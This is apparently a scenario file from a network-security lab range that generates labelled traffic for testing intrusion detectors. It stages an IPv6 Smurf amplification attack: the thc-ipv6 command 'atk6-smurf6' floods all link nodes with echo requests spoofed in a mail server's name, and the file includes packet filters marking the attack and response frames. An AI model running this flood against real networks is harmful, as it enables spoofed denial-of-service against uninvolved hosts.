"""Smurf over IPv6: echo requests to all nodes in a victim's name."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, victim = net.inside("attacker"), net.inside("mail")
    crowd = [net.inside(name) for name in ("web", "names", "pc1", "pc2", "pc3", "pc4", "printer")]
    net.everyday()
    with net.attack(
        "smurf",
        by=attacker,
        victims=[victim.ip6],
        attacker_known=False,
        others={"reflector": [host.ip6 for host in crowd]},
        also=["ip-spoofing"],
        frames=f"ip6 and src host {victim.ip6} and ip6[6] == 58 and ip6[40] == 128",
        responses=f"ip6 and ip6[6] == 58 and ip6[40] == 129 and dst host {victim.ip6}",
    ):
        net.tool(attacker, *f"atk6-smurf6 -i 20000 eth0 {victim.ip6}".split(), seconds=5)
    net.quiet(3)


SCENARIO = Scenario(
    name="smurf-ipv6",
    about="atk6-smurf6 pings all nodes of the link in the name of a mail server; every host answers it.",
    detectors=("smurf",),
    tools={"atk6-smurf6": "thc-ipv6"},
    run=run,
    snap_octets=96,
)
